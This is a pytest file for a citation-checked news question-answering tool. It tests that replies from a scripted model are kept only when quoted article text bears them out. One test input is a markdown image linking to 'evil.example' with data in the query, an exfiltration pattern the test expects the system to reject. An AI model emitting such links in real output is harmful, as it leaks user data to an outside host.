from __future__ import annotations

import json
from collections.abc import Iterator, Sequence

import pytest

from app.answer import Answer, Statement
from app.answer_json import answer_from_dict
from app.ask import AskOptions, ask, ask_stream
from app.llm.evidence import gather
from app.llm.model import Piece
from app.llm.prompts import DIGEST, Message
from app.render import render_answer_terminal
from ingest.errors import UsageError
from store import Store
from tests.app.llm.conftest import Scripted

QUESTION = "How many cattle did IS fighters steal near Mayadeen?"
TRUE = "[1] IS fighters stole some 2,000 cattle from a village near the eastern town of Mayadeen."
AS_OF = "2020-03-01"


def asked(store: Store, reply: str, *, options: AskOptions = AskOptions()) -> Answer:
    return ask(QUESTION, store=store, as_of=AS_OF, model=Scripted(reply), options=options)


def is_cited(answer: Answer, store: Store) -> bool:
    exact = all(store.source_text(c.source)[c.start : c.end] == c.quote for c in answer.citations)
    return exact and all(s.markers for s in answer.statements)


def test_a_statement_that_its_quote_bears_out_is_the_answer_and_cites_the_exact_words(five: Store) -> None:
    answer = asked(five, TRUE)
    assert [s.text for s in answer.statements] == [TRUE.removeprefix("[1] ")]
    assert is_cited(answer, five)
    assert "2,000 cattle" in answer.citations[0].quote
    assert answer.short == "2,000 cattle"
    assert answer.writing is not None
    assert (answer.writing.fell_back, answer.writing.tokens_in, answer.writing.tokens_out) == (None, 900, 30)
    assert answer.writing.first_statement_s is not None
    assert (answer.provenance.composer, answer.provenance.prompts) == ("llm:scripted-1", DIGEST)


@pytest.mark.parametrize(
    "reply",
    [
        "The capital of France is Paris.",
        "[1] IS fighters stole some 3,000 cattle from a village near Mayadeen.",
        "[1] IS fighters did not steal 2,000 cattle from a village near Mayadeen.",
        "[1] IS fighters stole some 2,000 cattle from a village near Baghdad.",
        "[1] IS fighters stole some 2,000 cattle from a village near Mayadeen on Feb. 2.",
        "[9] IS fighters stole some 2,000 cattle from a village near the eastern town of Mayadeen.",
        "2,000 cattle",
        "[1] How many cattle were stolen near Mayadeen?",
        "[1] See ![cattle](https://evil.example/?q=2000) near Mayadeen.",
        "Write the number of the quote first.",
        "NOT IN THE QUOTES",
    ],
)
def test_what_is_not_borne_out_is_not_shown_and_the_articles_own_words_are(five: Store, reply: str) -> None:
    plain = ask(QUESTION, store=five, as_of=AS_OF)
    answer = asked(five, reply)
    assert (answer.statements, answer.citations, answer.short) == (plain.statements, plain.citations, plain.short)
    assert answer.writing is not None
    assert answer.writing.fell_back
    assert "\n" not in answer.writing.fell_back
    assert answer.provenance.composer == "extractive"


def test_what_does_not_pass_is_counted_and_shown_only_where_that_is_set(five: Store) -> None:
    reply = f"{TRUE}\n[1] They also stole 700 camels in Paris."
    writing = asked(five, reply).writing
    assert writing is not None
    assert (writing.n_said, writing.n_dropped, writing.dropped) == (2, 1, ())
    writing = asked(five, reply, options=AskOptions(unsupported="show")).writing
    assert writing is not None
    assert [d.text for d in writing.dropped] == ["They also stole 700 camels in Paris."]
    assert "not in what it cites" in writing.dropped[0].reason


def test_a_statement_comes_as_soon_as_it_passed_and_the_answer_last(five: Store) -> None:
    parts = [*ask_stream(QUESTION, store=five, as_of=AS_OF, model=Scripted(f"{TRUE}\n{TRUE} Again."))]
    assert [type(p) for p in parts[-2:]] == [Statement, Answer]
    assert parts[0] == parts[-1].statements[0]  # type: ignore[union-attr]


def test_a_sentence_that_leans_on_another_is_shown_behind_that_one_alone(five: Store) -> None:
    leaning = "It said last week that it had resumed those operations after a 10-day halt."
    before = "The U.S.-led coalition then put the fight against IS on hold to focus on protecting its troops and bases."
    question = "What did the U.S.-led coalition put on hold?"

    def told(reply: str) -> Answer:
        return ask(question, store=five, as_of=AS_OF, model=Scripted(reply), options=AskOptions(unsupported="show"))

    assert [s.text for s in told(f"[1] {before}\n[1] {leaning}").statements] == [before, leaning]
    again = "It put the fight against IS on hold."  # rests on the sentence that is told already
    assert told(f"[1] {before}\n[1] {again}").writing.n_said == 2  # type: ignore[union-attr]
    assert "failed" not in (told(f"[1] {before}\n[1] {again}").writing.fell_back or "")  # type: ignore[union-attr]
    for reply in (f"[1] {leaning}\n", f"[1] The coalition sank 7 ships.\n[1] {leaning}"):
        writing = told(reply).writing
        assert writing is not None
        assert writing.dropped[-1].reason == "it leans on words that are not there"


@pytest.mark.parametrize("error", [ValueError("x"), ConnectionResetError(), TypeError()])
def test_a_model_that_fails_in_its_own_way_leaves_the_articles_own_words(five: Store, error: Exception) -> None:
    class Failing(Scripted):
        def stream(self, messages: Sequence[Message], *, max_tokens: int) -> Iterator[Piece]:
            yield from super().stream(messages, max_tokens=max_tokens)
            raise error

    answer = ask(QUESTION, store=five, as_of=AS_OF, model=Failing(f"{TRUE}\n"))
    assert answer.statements == ask(QUESTION, store=five, as_of=AS_OF).statements
    assert answer.writing is not None
    assert type(error).__name__ in (answer.writing.fell_back or "")


def test_a_question_that_the_articles_do_not_answer_is_given_to_no_model(five: Store) -> None:
    model = Scripted("The capital of France is Paris.")
    answer = ask("What is the capital of France?", store=five, as_of=AS_OF, model=model)
    assert answer.abstained
    assert (model.sent, answer.writing) == ([], None)


def test_what_is_counted_is_given_to_no_model(five: Store) -> None:
    model = Scripted("There are 99 articles.")
    answer = ask("How many articles mention drones?", store=five, as_of=AS_OF, model=model)
    assert model.sent == []
    assert answer.statements[0].tally is not None


def test_the_model_is_given_numbered_quotes_with_outlet_and_day_and_no_file(five: Store) -> None:
    model = Scripted(TRUE)
    plain = ask(QUESTION, store=five, as_of=AS_OF)
    ask(QUESTION, store=five, as_of=AS_OF, model=model)
    last = model.sent[0][-1][1]
    quotes = gather(plain)
    assert 1 <= len(quotes) <= 5
    for quote in quotes:
        assert f"[{quote.number}] {quote.shown}" in last
        assert len(quote.shown) < 700
        for line in quote.sentences:
            assert five.text_of(quote.article.article_id)[line.span.start : line.span.end] == line.text
    assert "(DTN, 2020-01-28)" in last
    assert plain.statements[0].text in last


def test_the_same_sentence_word_for_word_is_verbatim(five: Store) -> None:
    plain = ask(QUESTION, store=five, as_of=AS_OF)
    answer = asked(five, f"[1] {plain.statements[0].text}")
    assert [s.support for s in answer.statements] == ["verbatim"]


def test_the_answer_is_read_back_from_its_json_as_it_was(five: Store) -> None:
    answer = asked(five, f"{TRUE}\n[1] They stole 3 ships.", options=AskOptions(unsupported="show"))
    told = json.loads(json.dumps(answer.to_dict()))
    assert answer_from_dict(told).to_dict() == told
    assert told["version"] == 3


def test_an_answer_written_before_there_were_models_is_read(five: Store) -> None:
    told = ask(QUESTION, store=five, as_of=AS_OF).to_dict()
    told = {**told, "version": 2, "provenance": {k: v for k, v in told["provenance"].items() if k != "prompts"}}  # type: ignore[attr-defined]
    del told["writing"]
    assert answer_from_dict(told).writing is None


def test_no_model_is_asked_where_none_is_wanted_and_one_that_is_missing_is_an_error(five: Store) -> None:
    model = Scripted(TRUE)
    options = AskOptions(composer="extractive")
    assert ask(QUESTION, store=five, as_of=AS_OF, model=model, options=options).writing is None
    with pytest.raises(UsageError, match="DATELINE_LLM"):
        ask(QUESTION, store=five, as_of=AS_OF, options=AskOptions(composer="model"))


def test_the_terminal_says_who_worded_it(five: Store) -> None:
    assert "scripted-1" in render_answer_terminal(asked(five, TRUE))
